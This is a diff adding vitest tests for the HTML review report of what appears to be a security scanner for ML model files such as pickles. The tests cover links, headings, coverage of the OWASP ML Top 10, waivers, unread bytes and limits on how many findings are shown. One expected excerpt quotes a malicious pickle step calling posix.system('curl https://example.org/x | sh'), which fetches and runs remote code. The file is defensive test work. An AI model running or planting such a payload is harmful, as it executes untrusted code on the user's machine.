@@ -1,9 +1,140 @@
 import { describe, expect, it } from 'vitest';
-import { cleanReview, mixedReview } from './html-sample.ts';
+import { type Judged, renderHtml } from '../../src/report/index.ts';
+import { all, attribute, parseHtml, textOf } from '../support/parsed-html.ts';
+import { cleanReview, manyFindings, mixedReview, NOW } from './html-sample.ts';
+import { assessment, CALL_RULE, CONTEXT, file, finding, judged, signature, UNLISTED_RULE } from './sample.ts';
+
+const context = { ...CONTEXT, coverage: true };
+
+function reviewOf(what: Judged) {
+  return parseHtml(renderHtml(what, context, { now: NOW }));
+}
+
+function section(parsed: ReturnType<typeof parseHtml>, id: string): string {
+  const found = all(parsed, 'section').find((element) => attribute(element, 'id') === id);
+  return found === undefined ? '' : textOf(found).replace(/\s+/g, ' ');
+}
 
 describe('the review', () => {
   it('is the frozen one', async () => {
     await expect(mixedReview()).toMatchFileSnapshot('../golden/review.html');
     await expect(cleanReview()).toMatchFileSnapshot('../golden/review-clean.html');
+  });
+
+  it('is well-formed, and every link leads somewhere in it', () => {
+    for (const html of [mixedReview(), cleanReview()]) {
+      const parsed = parseHtml(html);
+      expect(parsed.errors).toEqual([]);
+      const ids = parsed.elements.flatMap((element) => attribute(element, 'id') ?? []);
+      expect(new Set(ids).size).toBe(ids.length);
+      for (const link of all(parsed, 'a')) expect(ids).toContain(attribute(link, 'href')?.slice(1));
+    }
+  });
+
+  it('has headings that never skip a level', () => {
+    const levels = parseHtml(mixedReview()).elements.flatMap(({ tagName }) =>
+      /^h[1-6]$/.test(tagName) ? [Number(tagName[1])] : [],
+    );
+    expect(levels[0]).toBe(1);
+    for (const [i, level] of levels.entries()) expect(level).toBeLessThanOrEqual((levels[i - 1] ?? 0) + 1);
+  });
+
+  it('says first how much of the ten risks was assessed', () => {
+    expect(section(parseHtml(mixedReview()), 'owasp')).toMatch(
+      /^ 2 OWASP Machine Learning Security Top 10 Assessed \d+\/10, direct \d+\/10\. /,
+    );
+  });
+
+  it('shows what stands where a finding points, and what pardons it', () => {
+    const text = section(parseHtml(mixedReview()), 'findings');
+    expect(text).toContain("▸42 REDUCE # posix.system('curl https://example.org/x | sh')");
+    expect(text).toContain('▸00000000 80 04 95 2a 00 00 00 63 ···*···c');
+    expect(text).toContain('No excerpt: the finding names a line, not a byte.');
+    expect(text).toContain('Waived by ada@example.org until 2026-06-30: our own class, reviewed');
+  });
+
+  it('tells what it does not vouch for', () => {
+    const text = section(parseHtml(mixedReview()), 'unseen');
+    expect(text).toContain('Unknown extra/cut.pkl the pickle ends before its STOP');
+    expect(text).toContain('extra/cut.pkl: 100 bytes of 1000 bytes, the first at byte 900');
+    expect(text).toContain('model.safetensors: as its source announces it');
+    expect(text).toContain('onnx/model.onnx: none');
+    expect(text).toContain('Files that no signature vouches for extra/tokens.pkl');
+    expect(text).toContain('Not assessed format.onnx.scan: no scanner judges ONNX yet');
+  });
+
+  it('never calls incomplete, unsigned or undigested what it does not say so of', () => {
+    const open = assessment({ status: 'incomplete', artifact: { ref: './m', pinned: './m', digest: null } });
+    const parsed = reviewOf({ ...judged(), assessment: open });
+    expect(parsed.text).toContain('The review is incomplete: part of the artifact could not be read.');
+    expect(parsed.text).toContain('not pinned: the source has no version');
+    expect(parsed.text).toContain('none: not every file has one');
+    expect(section(parsed, 'provenance')).toContain('nothing proves who made this artifact');
+    const complete = reviewOf(judged({ signatures: [signature()] }));
+    expect(complete.text).not.toContain('The review is incomplete');
+    expect(section(complete, 'provenance')).not.toContain('nothing proves');
+  });
+
+  it('offers no waiver for what is malicious', () => {
+    const bad = reviewOf(judged({ files: [file({ path: 'a.pkl', verdict: 'malicious' })] }));
+    expect(section(bad, 'summary')).toContain('Nothing waives a malicious file');
+    const odd = reviewOf(judged({ files: [file({ path: 'a.pkl', verdict: 'suspicious' })] }));
+    expect(section(odd, 'summary')).toContain('or a waiver allows this one');
+  });
+
+  it('draws an unread byte, however few there are', () => {
+    const size = 1_000_000_000;
+    const coverage = {
+      ranges: [{ start: 0, end: size - 1, kind: 'opaque' as const }],
+      gaps: [{ start: size - 1, end: size }],
+    };
+    const parsed = reviewOf(judged({ files: [file({ path: 'w.bin', size, verdict: 'unknown', coverage })] }));
+    const bars = all(parsed, 'rect').filter((rect) => attribute(rect, 'class') === 'unread');
+    // One in the key, one in the bar.
+    expect(bars.map((rect) => attribute(rect, 'x'))).toEqual(['0', '199']);
+  });
+
+  it('names a paper when it is told one', () => {
+    expect(mixedReview({ paper: 'letter' })).toContain('@page { size: letter; }');
+    expect(mixedReview()).not.toMatch(/@page \{ size/);
+  });
+});
+
+describe('many findings', () => {
+  const places = (parsed: ReturnType<typeof parseHtml>) =>
+    all(parsed, 'li').filter((li) => attribute(li, 'id')?.startsWith('f-'));
+
+  it('are shown in full up to 500, the rest in a line each, and the review says so', () => {
+    const parsed = reviewOf(manyFindings(1_234));
+    expect(places(parsed)).toHaveLength(500);
+    const text = section(parsed, 'findings');
+    expect(text).toContain('1,234 findings of 3 rules, worst first. 500 findings are shown with evidence');
+    expect(text).toContain('734 more findings in a line each');
+    expect(text).toMatch(/3\.411weights\/part-\d+\.pkl, byte \d+calls posix\.system/);
+    expect(section(reviewOf(manyFindings(500)), 'findings')).not.toContain('in a line each');
+  });
+
+  it('beyond ten thousand lines are counted', () => {
+    expect(section(reviewOf(manyFindings(11_000)), 'findings')).toContain('500 more findings only counted');
+  });
+
+  it('of one rule leave room for those of others', () => {
+    const findings = [
+      ...Array.from({ length: 900 }, (_, i) => finding(CALL_RULE, { file: 'a.pkl', offset: i, evidence: String(i) })),
+      ...Array.from({ length: 30 }, (_, i) =>
+        finding(UNLISTED_RULE, { file: 'a.pkl', offset: i, evidence: String(i) }),
+      ),
+    ];
+    const ids = places(reviewOf(judged({ findings }))).map((li) => attribute(li, 'id') ?? '');
+    expect(ids.filter((id) => id.startsWith('f-1.'))).toHaveLength(480);
+    expect(ids.filter((id) => id.startsWith('f-2.'))).toHaveLength(20);
+  });
+
+  it('are rendered in less than two seconds', () => {
+    const many = manyFindings(10_000);
+    const started = performance.now();
+    const html = renderHtml(many, context, { now: NOW });
+    expect(performance.now() - started).toBeLessThan(2_000);
+    expect(html.length).toBeLessThan(8_000_000);
   });
 });
